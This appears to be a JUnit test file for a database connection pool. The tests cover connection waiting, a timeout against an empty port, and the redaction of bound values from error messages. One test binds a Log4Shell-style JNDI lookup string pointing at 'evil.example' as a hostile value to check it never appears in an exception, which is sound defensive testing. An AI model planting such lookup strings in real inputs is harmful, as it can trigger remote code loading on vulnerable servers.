package dev.gatehouse.server.storage;

import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.gatehouse.server.kernel.Secret;
import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.time.Duration;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;

/** How a start waits for its database. */
@Tag("database")
class ConnectionPoolTest {
  @Test
  void awaitConnection_databaseAnswers_goesOn() {
    try (ServerDatabase database = ServerDatabase.create();
        ConnectionPool pool = ConnectionPool.open("test", database.access(DatabaseRoles.APP), 1)) {
      assertThatCode(() -> pool.awaitConnection(Duration.ofSeconds(20))).doesNotThrowAnyException();
    }
  }

  @Test
  void failedStatement_tellsNoneOfItsValues() {
    try (ServerDatabase database = ServerDatabase.create();
        ConnectionPool pool = ConnectionPool.open("test", database.access(DatabaseRoles.APP), 1)) {
      assertThatThrownBy(() ->
              pool.jdbi()
                  .useHandle(handle ->
                      handle
                          .createUpdate("INSERT INTO nowhere VALUES (:agent)")
                          .bind("agent", "${jndi:ldap://evil.example}")
                          .execute()))
          .hasMessageContaining("nowhere")
          .message()
          .doesNotContain("jndi");
    }
  }

  @Test
  void awaitConnection_nobodyListens_givesUpInTime() throws IOException {
    try (ConnectionPool pool = ConnectionPool.open("test", nobodyListens(), 1)) {
      assertThatThrownBy(() -> pool.awaitConnection(Duration.ofMillis(1)))
          .isInstanceOf(DatabaseUnavailable.class);
    }
  }

  private static DatabaseAccess nobodyListens() throws IOException {
    try (ServerSocket socket = new ServerSocket(0, 1, InetAddress.ofLiteral("127.0.0.1"))) {
      String url = "jdbc:postgresql://127.0.0.1:" + socket.getLocalPort() + "/gatehouse";
      return new DatabaseAccess(url, DatabaseRoles.APP, Secret.of("of nobody"));
    }
  }
}
